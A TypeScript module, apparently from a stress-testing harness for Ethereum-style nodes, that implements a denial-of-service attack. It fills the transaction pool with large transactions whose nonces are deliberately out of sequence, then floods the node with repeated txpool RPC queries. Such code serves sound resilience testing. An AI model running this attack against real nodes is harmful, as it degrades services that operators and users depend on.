import { encodeTransaction, signTransaction, toHex } from '@mvm/protocol'
import type { Attack } from '../AttackTarget.ts'
import { post } from '../post.ts'
import { request } from '../request.ts'
import { rotate } from '../rotate.ts'

const GWEI = 10n ** 9n
/** Together hardly less than a node shows (`poolBytes`). */
const TRANSACTIONS = 19
const DATA_BYTES = 50_000

/** The whole pool, with as much as is shown, again and again. */
export const poolContents: Attack = async (options) => {
  const { chainId, attacker } = options.target
  for (let i = 0; i < TRANSACTIONS && !options.signal.aborted; i++) {
    const transaction = signTransaction(
      {
        type: 2,
        chainId,
        // Never the next one.
        nonce: BigInt(1_000 + i),
        maxFeePerGas: 100n * GWEI,
        maxPriorityFeePerGas: GWEI,
        gasLimit: 3_000_000n,
        to: attacker.address,
        value: 0n,
        data: new Uint8Array(DATA_BYTES).fill(i),
        accessList: [],
      },
      attacker.privateKey,
    )
    await post(options, request('eth_sendRawTransaction', toHex(encodeTransaction(transaction))))
  }
  await rotate(
    options,
    [
      request('txpool_content'),
      request('txpool_inspect'),
      request('txpool_contentFrom', attacker.address),
      request('txpool_status'),
      Array.from({ length: 100 }, () => request('txpool_content')),
    ],
    8,
  )
}
